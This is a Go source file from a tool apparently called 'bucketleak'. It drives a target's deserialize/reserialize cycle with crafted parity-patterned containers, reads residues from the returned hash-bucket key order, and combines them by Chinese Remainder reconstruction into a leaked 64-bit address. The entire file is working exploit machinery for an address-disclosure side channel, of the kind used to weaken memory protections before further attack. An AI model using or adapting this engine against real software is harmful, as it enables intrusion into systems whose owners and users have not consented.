package bucketleak

import (
	"context"
	"errors"
	"fmt"
	"sort"

	"golang.org/x/sync/errgroup"

	bkerrors "github.com/nullprobe/bucketleak/errors"
)

// RoundTripper is the external collaborator that feeds a serialized
// container through the system under test's deserialize/reserialize cycle
// and returns the reserialized bytes. The engine performs no I/O itself;
// timeouts and retries belong to the implementation behind this interface.
type RoundTripper interface {
	RoundTrip(ctx context.Context, archive []byte) ([]byte, error)
}

// RoundTripperFunc adapts a function to the RoundTripper interface.
type RoundTripperFunc func(ctx context.Context, archive []byte) ([]byte, error)

// RoundTrip calls f.
func (f RoundTripperFunc) RoundTrip(ctx context.Context, archive []byte) ([]byte, error) {
	return f(ctx, archive)
}

// ModulusOutcome is the per-modulus result surface: either a recovered
// remainder or the failure that excluded the modulus.
type ModulusOutcome struct {
	Modulus   uint64
	Remainder uint64
	Err       error
}

// OK reports whether the modulus produced a residue.
func (o ModulusOutcome) OK() bool {
	return o.Err == nil
}

// Result is the outcome of a reconstruction run.
type Result struct {
	// Address is the reconstructed 64-bit value. Zero when the run
	// failed before combination.
	Address uint64

	// Model is the calibrated hash model the run used.
	Model Model

	// Outcomes holds one entry per probed modulus, in input order,
	// regardless of success.
	Outcomes []ModulusOutcome
}

// ResidueCount returns how many moduli produced residues.
func (r *Result) ResidueCount() int {
	n := 0
	for _, o := range r.Outcomes {
		if o.OK() {
			n++
		}
	}
	return n
}

// Residues returns the successful records, ordered by modulus.
func (r *Result) Residues() []ResidueRecord {
	records := make([]ResidueRecord, 0, len(r.Outcomes))
	for _, o := range r.Outcomes {
		if o.OK() {
			records = append(records, ResidueRecord{Modulus: o.Modulus, Remainder: o.Remainder})
		}
	}
	sort.Slice(records, func(i, j int) bool { return records[i].Modulus < records[j].Modulus })
	return records
}

// Engine drives the full reconstruction pipeline: calibration, per-modulus
// container construction and round trips, residue extraction, and the
// final CRT combination.
type Engine struct {
	rt  RoundTripper
	cfg *engineConfig
}

// NewEngine creates an engine that probes the target behind rt.
func NewEngine(rt RoundTripper, opts ...EngineOption) (*Engine, error) {
	if rt == nil {
		return nil, fmt.Errorf("round tripper cannot be nil")
	}
	cfg := defaultEngineConfig()
	for _, opt := range opts {
		opt(cfg)
	}
	if cfg.hash == nil {
		return nil, fmt.Errorf("hash model cannot be nil")
	}
	if len(cfg.moduli) == 0 {
		return nil, fmt.Errorf("modulus set cannot be empty")
	}
	if cfg.minResidues < 1 {
		return nil, fmt.Errorf("minimum residue count must be at least 1")
	}
	if cfg.workers < 0 {
		return nil, fmt.Errorf("worker count cannot be negative")
	}
	return &Engine{rt: rt, cfg: cfg}, nil
}

// Reconstruct runs the pipeline once and returns the reconstructed value.
//
// Per-modulus failures (unreachable buckets, round-trip errors, probing
// desynchronization) exclude the modulus and are reported in the result's
// Outcomes. Archive-format violations abort the whole run: they signal a
// structural change in the target that no residue can be trusted across.
// If fewer than the configured minimum of moduli produce residues, the
// run fails with ErrInsufficientResidues; the partial result is still
// returned alongside the error so callers can report per-modulus detail.
func (e *Engine) Reconstruct(ctx context.Context) (*Result, error) {
	model := Calibrate(e.cfg.hash, e.cfg.sampleCount)
	synth := NewSynthesizer(model, e.cfg.hash, e.cfg.scanMultiple)

	result := &Result{
		Model:    model,
		Outcomes: make([]ModulusOutcome, len(e.cfg.moduli)),
	}

	workers := e.cfg.workers
	if workers < 1 {
		workers = 1
	}
	group, groupCtx := errgroup.WithContext(ctx)
	group.SetLimit(workers)

	for i, modulus := range e.cfg.moduli {
		group.Go(func() error {
			outcome := e.probeModulus(groupCtx, synth, modulus)
			result.Outcomes[i] = outcome
			// Format violations poison the whole run: stop probing the
			// remaining moduli.
			if outcome.Err != nil &&
				(errors.Is(outcome.Err, bkerrors.ErrDecodeFormat) ||
					errors.Is(outcome.Err, bkerrors.ErrMarkerMissing)) {
				return outcome.Err
			}
			return nil
		})
	}
	if err := group.Wait(); err != nil {
		return nil, err
	}

	records := result.Residues()
	if len(records) < e.cfg.minResidues {
		return result, fmt.Errorf("%w: %d of %d moduli succeeded, need %d",
			bkerrors.ErrInsufficientResidues, len(records), len(e.cfg.moduli), e.cfg.minResidues)
	}

	address, err := SolveCRT(records)
	if err != nil {
		return result, err
	}
	result.Address = address
	return result, nil
}

// probeModulus runs one modulus through both patterns and reconciles the
// marker positions into a residue. All failures carry the modulus and
// pattern so that a bucket-math bug is distinguishable from a changed
// wire shape.
func (e *Engine) probeModulus(ctx context.Context, synth *Synthesizer, modulus uint64) ModulusOutcome {
	outcome := ModulusOutcome{Modulus: modulus}

	evenKeys, err := e.probePattern(ctx, synth, PatternEven, modulus)
	if err != nil {
		outcome.Err = err
		return outcome
	}
	oddKeys, err := e.probePattern(ctx, synth, PatternOdd, modulus)
	if err != nil {
		outcome.Err = err
		return outcome
	}

	record, err := ExtractResidue(evenKeys, oddKeys, modulus)
	if err != nil {
		outcome.Err = err
		return outcome
	}
	outcome.Remainder = record.Remainder
	return outcome
}

// probePattern builds one parity-patterned container, round-trips it, and
// decodes the returned key order. The decoded numeric keys must be exactly
// the ones sent: key identity surviving the cycle is a precondition of the
// position math, so any loss or invention is a desynchronization.
func (e *Engine) probePattern(ctx context.Context, synth *Synthesizer, pattern Pattern, modulus uint64) ([]ArchiveKey, error) {
	container, err := BuildContainer(synth, pattern, modulus)
	if err != nil {
		return nil, fmt.Errorf("modulus %d, pattern %s: %w", modulus, pattern, err)
	}
	if !container.Complete() {
		return nil, fmt.Errorf("%w: modulus %d, pattern %s: %d buckets unreachable",
			bkerrors.ErrKeySynthesis, modulus, pattern, len(container.MissingBuckets))
	}

	request, err := EncodeArchive(container)
	if err != nil {
		return nil, err
	}

	response, err := e.rt.RoundTrip(ctx, request)
	if err != nil {
		return nil, fmt.Errorf("%w: modulus %d, pattern %s: %v",
			bkerrors.ErrRoundTrip, modulus, pattern, err)
	}
	if e.cfg.recorder != nil {
		if err := e.cfg.recorder.Record(modulus, pattern, request, response); err != nil {
			return nil, fmt.Errorf("modulus %d, pattern %s: record: %w", modulus, pattern, err)
		}
	}

	keys, err := DecodeArchive(response)
	if err != nil {
		return nil, fmt.Errorf("modulus %d, pattern %s: %w", modulus, pattern, err)
	}
	if len(keys) != container.EntryCount() {
		return nil, fmt.Errorf("%w: modulus %d, pattern %s: sent %d entries, decoded %d",
			bkerrors.ErrResidueDesync, modulus, pattern, container.EntryCount(), len(keys))
	}
	if err := verifyKeyIdentity(container.Keys, keys); err != nil {
		return nil, fmt.Errorf("modulus %d, pattern %s: %w", modulus, pattern, err)
	}
	return keys, nil
}

// verifyKeyIdentity checks that the decoded numeric keys are exactly the
// synthesized ones, independent of order.
func verifyKeyIdentity(sent []uint64, decoded []ArchiveKey) error {
	expected := make(map[uint64]int, len(sent))
	for _, k := range sent {
		expected[k]++
	}
	for _, k := range decoded {
		if k.Marker {
			continue
		}
		if expected[k.Value] == 0 {
			return fmt.Errorf("%w: key %d not among sent keys", bkerrors.ErrResidueDesync, k.Value)
		}
		expected[k.Value]--
	}
	for k, n := range expected {
		if n != 0 {
			return fmt.Errorf("%w: key %d lost in round trip", bkerrors.ErrResidueDesync, k)
		}
	}
	return nil
}
